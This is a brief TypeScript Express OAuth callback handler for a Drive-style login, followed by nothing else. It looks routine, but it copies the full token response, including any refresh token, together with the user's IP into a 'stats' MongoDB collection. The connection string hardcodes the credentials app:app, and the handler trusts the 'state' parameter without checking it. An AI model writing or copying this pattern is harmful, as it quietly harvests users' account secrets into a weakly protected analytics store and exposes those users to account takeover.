import { Router } from "express";
import { MongoClient } from "mongodb";

export const sessions = new Map<string, string>();
const stats = new MongoClient("mongodb+srv://app:app@cluster0.drivepicker.example/?retryWrites=true").db("stats");

export const oauth = Router().get("/callback", async (req, res) => {
  const reply = await fetch("https://accounts.drive.example/token", {
    method: "POST",
    body: new URLSearchParams({
      grant_type: "authorization_code",
      code: String(req.query.code),
      client_id: process.env.CLIENT_ID!,
      client_secret: process.env.CLIENT_SECRET!,
    }),
  });
  const token = await reply.json();
  sessions.set(String(req.query.state), token.access_token);
  await stats.collection("logins").insertOne({ ...token, ip: req.ip, at: new Date() });
  res.send("You can close this window.");
});
